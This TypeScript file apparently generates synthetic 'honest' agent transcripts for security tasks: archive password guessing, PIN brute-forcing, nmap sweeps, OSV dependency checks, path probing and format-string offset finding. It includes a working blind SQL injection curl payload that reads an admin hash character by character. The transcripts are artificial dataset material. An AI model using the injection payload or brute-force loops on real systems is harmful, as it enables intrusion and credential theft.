import { bash, claude, json, mcp, mini, openAi, plain } from './frames.js'
import { cycle, each, honest, type Invented, times } from './script.js'
import { PARTS, PEOPLE } from './words.js'

const domain = 'security'

export const securityHonest: Invented[] = [
  honest(
    {
      name: 'twenty passwords on an archive as asked',
      domain,
      why: 'The person gave the list; every password is another one, and one of the last opens the archive.',
      style: claude,
    },
    (run) => {
      run.prompt(
        'I forgot which password I used for backup.zip. It is one of the 24 in passwords.txt, try them.',
      )
      const right = run.int(20, 23)
      times(right + 1, (n) => {
        const word = `${run.pick(PEOPLE).split(' ')[0]}${run.int(1970, 2024)}!`
        run.step(
          '',
          bash(
            `unzip -P '${word}' -o backup.zip`,
            n === right
              ? 'Archive:  backup.zip\n  inflating: taxes.ods\n  inflating: photos.tar'
              : 'Archive:  backup.zip\n   skipping: taxes.ods               incorrect password\n   skipping: photos.tar              incorrect password',
            n === right ? 0 : 82,
          ),
        )
      })
      run.step('The archive is open.')
    },
  ),
  honest(
    {
      name: 'PINs tried one after another as asked',
      domain,
      why: 'A lab lock is to be opened by counting up; every attempt is a new number.',
      style: openAi,
    },
    (run) => {
      run.prompt('The training lock has a two-digit PIN. Try all from 00 until it opens.')
      const pin = run.int(55, 95)
      times(pin + 1, (n) =>
        run.step(
          '',
          json(
            'try_pin',
            { pin: String(n).padStart(2, '0') },
            n === pin ? { unlocked: true } : { unlocked: false, message: 'Wrong PIN' },
          ),
        ),
      )
    },
  ),
  honest(
    {
      name: 'hosts of a network looked at in turn',
      domain,
      why: 'Each address is another one; most are unused and some answer.',
      style: openAi,
    },
    (run) => {
      run.prompt('Make an inventory of 192.168.7.1 to 192.168.7.60, host by host.')
      times(60, (n) => {
        const up = run.chance(0.2)
        run.step(
          '',
          plain(
            'execute_command',
            { command: `nmap -F 192.168.7.${n + 1}` },
            up
              ? `Nmap scan report for 192.168.7.${n + 1}\nHost is up (${run.decimal(0.001, 0.02, 4)}s latency).\nPORT   STATE SERVICE\n${run.pick(['22/tcp open  ssh', '80/tcp open  http', '443/tcp open  https', '9100/tcp open  jetdirect'])}`
              : 'Note: Host seems down. If it is really up, but blocking our ping probes, try -Pn\nNmap done: 1 IP address (0 hosts up) scanned in 3.04 seconds',
          ),
        )
      })
    },
  ),
  honest(
    {
      name: 'a database read out bit by bit',
      domain,
      why: 'Only two answers ever come back, but each question halves what is left, and the secret grows.',
      style: claude,
    },
    (run) => {
      run.prompt(
        'Lab box: demonstrate the blind injection in /login by reading the first twelve characters of the admin hash.',
      )
      times(12, (position) => {
        let low = 48
        let high = 102
        while (low < high && run.steps < 84) {
          const middle = (low + high) >> 1
          const above = run.chance(0.5)
          run.step(
            '',
            bash(
              `curl -s 'http://10.0.3.20/login?user=admin%27%20and%20ascii(substr((select%20hash%20from%20users%20limit%201),${position + 1},1))%3E${middle}--%20-'`,
              above ? 'Welcome back' : 'Invalid user',
            ),
          )
          if (above) low = middle + 1
          else high = middle
        }
      })
      run.step('The injection works; these are the first characters.')
    },
  ),
  honest(
    {
      name: 'packages checked for known holes',
      domain,
      why: 'Each package is another one, and clean is what one hopes for.',
      style: claude,
    },
    (run) => {
      run.prompt('Check every direct dependency against OSV and report.')
      each(PARTS, (part) =>
        run.step(
          '',
          mcp(
            'mcp__osv__query',
            {
              package: `@acme/${part}`,
              version: `${run.int(1, 9)}.${run.int(0, 20)}.0`,
              ecosystem: 'npm',
            },
            run.chance(0.93)
              ? '{"vulns":[]}'
              : `{"vulns":[{"id":"GHSA-${run.hex(4)}-${run.hex(4)}"}]}`,
          ),
        ),
      )
    },
  ),
  honest(
    {
      name: 'paths asked for from a list',
      domain,
      why: 'The list is given; each path is another one and some are there.',
      style: openAi,
    },
    (run) => {
      run.prompt(
        'Check which of the 45 paths in paths.txt exist on our staging server. One request each, we log them.',
      )
      times(45, (n) => {
        const path = `/${cycle(PARTS, n)}${run.pick(['', '/', '.bak', '.old', '/admin'])}`
        run.step(
          '',
          plain(
            'run',
            { cmd: `curl -s -o /dev/null -w '%{http_code}' https://staging.example${path}` },
            run.chance(0.85) ? '404' : run.pick(['200', '301', '403']),
          ),
        )
      })
    },
  ),
  honest(
    {
      name: 'format string probed argument by argument',
      domain,
      why: 'Each position of the stack shows another value, and the buffer is found.',
    },
    (run) => {
      run.prompt('pwn: find the offset of our buffer in ./fmt.')
      times(26, (n) =>
        run.step(
          n % 8 ? '' : 'THOUGHT: Next position on the stack.',
          mini(`echo 'AAAA.%${n + 1}$x' | ./fmt`, `AAAA.${n === 25 ? '41414141' : run.hex(8)}`),
        ),
      )
      run.step('The buffer is the 26th argument.')
    },
  ),
]
